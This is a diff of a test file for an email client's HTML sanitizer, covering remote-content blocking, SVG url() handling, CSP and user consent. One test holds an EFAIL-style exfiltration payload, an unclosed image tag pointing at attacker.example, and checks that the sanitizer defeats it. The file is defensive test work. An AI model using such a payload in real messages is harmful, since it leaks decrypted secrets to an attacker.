@@ -8,6 +8,7 @@ import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { existsSync } from 'node:fs';
 import { chromium, type Browser, type Page } from 'playwright-core';
+import { messageFrameCsp } from '../../main/services/message-frames.ts';
 import { bundleRenderer } from '../support/renderer/bundle.ts';
 
 const CHROMIUM = '/usr/bin/chromium';
@@ -46,9 +47,10 @@ interface Clean {
   html: string;
   blockedRemote: number;
   allowedRemote: number;
+  remoteUrls: string[];
 }
 
-function sanitize(html: string, allowRemote = false): Promise<Clean> {
+function sanitize(html: string | string[], allowRemote = false): Promise<Clean> {
   return page.evaluate(([h, a]) => (window as any).__sanitize(h, a), [html, allowRemote] as const);
 }
 
@@ -104,8 +106,10 @@ test(
     assert.match(clean.html, /<style>[^<]*color: blue[^<]*<\/style>/, 'the <style> stays, cleaned');
     assert.match(clean.html, /<a href="https:\/\/example.org\/page" rel="noopener noreferrer" title="https:\/\/example.org\/page">/);
     assert.match(clean.html, /<a href="mailto:bob@example.org"/);
-    assert.ok(clean.blockedRemote >= 10, `blocked: ${clean.blockedRemote}`);
+    // Counted: what consent would load (the https images); http:, cid:, @import and the escaped style go uncounted.
+    assert.equal(clean.blockedRemote, 7);
     assert.equal(clean.allowedRemote, 0);
+    assert.deepEqual(clean.remoteUrls, []);
   },
 );
 
@@ -123,7 +127,7 @@ test('CSS: local references stay, unclosed or disguised ones take the whole rule
   assert.equal(await css('a { background: url("https://ok.example/x.png") }', true), 'a { background: url("https://ok.example/x.png") }');
 });
 
-test('with the user\u2019s consent, https images load (http and other schemes still do not)', { skip }, async () => {
+test('with the user\u2019s consent, https images load (http and other schemes still do not, and are not counted)', { skip }, async () => {
   const clean = await sanitize(
     '<img src="https://img.example/a.png"><img src="http://img.example/b.png"><p style="background:url(https://img.example/c.png)">x</p><style>@import url(https://fonts.example/a.css);</style>',
     true,
@@ -133,7 +137,8 @@ test('with the user\u2019s consent, https images load (http and other schemes st
   assert.match(clean.html, /url\(https:\/\/img.example\/c.png\)/);
   assert.doesNotMatch(clean.html, /@import|fonts\.example/, '@import never (style-src of the frame allows no URL anyway)');
   assert.equal(clean.allowedRemote, 2);
-  assert.ok(clean.blockedRemote >= 2);
+  assert.equal(clean.blockedRemote, 0);
+  assert.deepEqual(clean.remoteUrls.sort(), ['https://img.example/a.png', 'https://img.example/c.png']);
 });
 
 test(
@@ -146,9 +151,9 @@ test(
     ]);
     assert.match(
       blocked,
-      /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">/,
+      /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:; font-src data:">/,
     );
-    assert.match(allowed, /content="default-src 'none'; style-src 'unsafe-inline'; img-src data: https:"/);
+    assert.match(allowed, /content="default-src 'none'; style-src 'unsafe-inline'; img-src data: https:; font-src data:"/);
     assert.match(blocked, /<meta name="referrer" content="no-referrer">/);
     assert.match(blocked, /<body><p>x<\/p><\/body>/);
   },
@@ -188,3 +193,116 @@ test('a sanitized message in a frame with an empty sandbox loads nothing and run
   );
   await p.close();
 });
+
+test('SVG presentation attributes with url(): fragments and cid: parts stay, anything else goes and is counted', { skip }, async () => {
+  const attrs = ['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'marker-mid', 'marker-end'];
+  const remote = attrs.map((a) => `<path d="M0 0L9 9" ${a}="url(https://svg.example/${a}.svg#x)"/>`).join('');
+  const local = attrs
+    .map((a) => `<path d="M0 0L9 9" ${a}="url(#own-${a})"/><path d="M0 0L9 9" ${a}="url(cid:part-${a}@example)"/>`)
+    .join('');
+  const styled = '<rect width="9" height="9" style="fill: url(https://svg.example/style-fill.svg#x); stroke: url(#own-stroke)"/>';
+  const clean = await sanitize(`<svg>${remote}${local}${styled}<rect fill="red" stroke="url(#g) blue"/></svg>`);
+  assert.doesNotMatch(clean.html, /svg\.example/);
+  for (const a of attrs) {
+    assert.match(clean.html, new RegExp(`${a}="url\\(#own-${a}\\)"`), `${a}: a fragment of the message stays`);
+    assert.match(clean.html, new RegExp(`${a}="url\\(cid:part-${a}@example\\)"`), `${a}: a part of the message stays`);
+  }
+  assert.match(clean.html, /fill="red"/);
+  assert.match(clean.html, /stroke: url\(#own-stroke\)/);
+  // filter: Chromium never loads one from another origin, so consent would not bring it: removed, not counted.
+  assert.equal(clean.blockedRemote, attrs.length - 1 + 1);
+  const allowed = await sanitize(`<svg>${remote}${styled}</svg>`, true);
+  assert.equal(allowed.allowedRemote, clean.blockedRemote, 'consent keeps exactly what was counted');
+  assert.doesNotMatch(allowed.html, /filter="url\(https/);
+  assert.ok(allowed.remoteUrls.includes('https://svg.example/fill.svg'), 'listed as it is asked for, without the fragment');
+});
+
+test('position: fixed and sticky are dropped from style attributes and <style> blocks', { skip }, async () => {
+  const clean = await sanitize(
+    '<style>.bar { position: fixed; top: 0 } .s { position:-webkit-sticky } .t { POSITION : Sticky !important; color: red } .r { position: relative }' +
+      '.v { --p: fixed; position: var(--p) } .w{position:/* */fixed} .bp { background-position: left top }</style>' +
+      '<div class="bar" style="position:fixed;top:0;left:0;background:green">Signed and encrypted</div><p style="position: sticky">x</p>',
+  );
+  assert.doesNotMatch(clean.html, /position\s*:\s*(fixed|sticky|-webkit-sticky|var)/i);
+  assert.match(clean.html, /position: relative/);
+  assert.match(clean.html, /background-position: left top/);
+  assert.match(clean.html, /color: red/);
+  assert.match(clean.html, /background:green/);
+});
+
+test('HTML parts are sanitized one by one: an unclosed tag in one part cannot swallow the next (EFAIL)', { skip }, async () => {
+  const parts = ['<html><body><img src="https://attacker.example/exfil?', '<p>The launch code is TOPSECRET.</p>', '"></body></html>'];
+  for (const allow of [false, true]) {
+    const clean = await sanitize(parts, allow);
+    // The secret is text in its own part, never inside an attribute of the attacker's image.
+    assert.match(clean.html, /<p>The launch code is TOPSECRET\.<\/p>/);
+    assert.doesNotMatch(clean.html, /attacker\.example/);
+    assert.ok(!clean.remoteUrls.some((u) => /TOPSECRET/.test(u)));
+  }
+  // The same HTML as one part shows what the separation prevents.
+  const joined = await sanitize(parts.join('\n'), true);
+  assert.match(joined.remoteUrls.join(' '), /TOPSECRET/, 'joined first, the secret would be in the image URL');
+  // An unclosed <style> and <title> end with their part too; inline style ids do not collide across parts.
+  const styled = await sanitize(['<style>p { color: red }', '<p style="color: blue">second</p>', '<p style="color: green">third</p>']);
+  assert.match(styled.html, /<p data-sp-style="0">second<\/p>/);
+  assert.match(styled.html, /<p data-sp-style="1">third<\/p>/);
+});
+
+/** A 1x1 PNG for the remote server of the consent test. */
+const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');
+
+/** Every request a sanitized message makes when shown in a frame with the app's frame policy (messageFrameCsp). */
+async function requestsOf(html: string, allowRemote: boolean): Promise<string[]> {
+  const doc = await page.evaluate(([h, a]) => (window as any).__frameDocument((window as any).__sanitize(h, a).html, a), [
+    html,
+    allowRemote,
+  ] as const);
+  const p = await browser.newPage();
+  const requests: string[] = [];
+  await p.route('**/*', (route) => {
+    const url = route.request().url();
+    if (url === 'https://frame.test/message') {
+      return route.fulfill({
+        status: 200,
+        headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': messageFrameCsp(allowRemote) },
+        body: doc,
+      });
+    }
+    requests.push(url);
+    return route.fulfill({ status: 200, contentType: 'image/png', body: PNG });
+  });
+  await p.goto('https://frame.test/message');
+  await p.waitForTimeout(1000);
+  await p.close();
+  return [...new Set(requests)].sort();
+}
+
+test(
+  'remote-content consent loads exactly what it counts: nothing counted that it would not load, nothing loaded that was not counted',
+  { skip },
+  async () => {
+    const mail = [
+      '<style>@import url(https://r.example/import.css); @font-face { font-family: F; src: url(https://r.example/font.woff2) } p.f { font-family: F }',
+      '.bg { background: url("https://r.example/class-bg.png"); width: 9px; height: 9px } .set { background-image: image-set("https://r.example/set.png" 1x); width: 9px; height: 9px }',
+      '.fl { filter: url(https://r.example/filter.svg#f) }</style>',
+      '<p class="f fl">text</p><div class="bg"></div><div class="set"></div>',
+      '<img src="https://r.example/img.png"><img src="http://r.example/http.png"><img src="cid:part@example"><img lowsrc="https://r.example/lowsrc.png">',
+      '<table background="https://r.example/table.png"><tr><td style="background-image:url(https://r.example/td.png)">cell</td></tr></table>',
+      '<div style="cursor: url(https://r.example/cursor.png), auto">cursor</div>',
+      '<svg width="60" height="60"><image href="https://r.example/svg-image.png" width="9" height="9"/>',
+      '<rect width="20" height="20" fill="url(https://r.example/fill.svg#g)" mask="url(https://r.example/mask.svg#m)"/>',
+      '<rect width="20" height="20" clip-path="url(https://r.example/clip.svg#c)" filter="url(https://r.example/filter-attr.svg#f)"/>',
+      '<line x1="0" y1="0" x2="50" y2="50" stroke="red" marker-end="url(https://r.example/marker.svg#m)"/>',
+      '<use href="https://r.example/use.svg#u"/></svg>',
+    ].join('');
+    const blocked = await sanitize(mail, false);
+    const allowed = await sanitize(mail, true);
+    assert.equal(allowed.allowedRemote, blocked.blockedRemote, 'what is counted without consent is what consent keeps');
+    assert.equal(blocked.allowedRemote, 0);
+    assert.equal(allowed.blockedRemote, 0);
+    assert.deepEqual(await requestsOf(mail, false), [], 'without consent nothing is asked for');
+    const loaded = await requestsOf(mail, true);
+    assert.deepEqual(loaded, [...allowed.remoteUrls].sort(), 'with consent: exactly the counted URLs');
+    assert.equal(loaded.length, allowed.allowedRemote, 'one request per counted reference');
+  },
+);
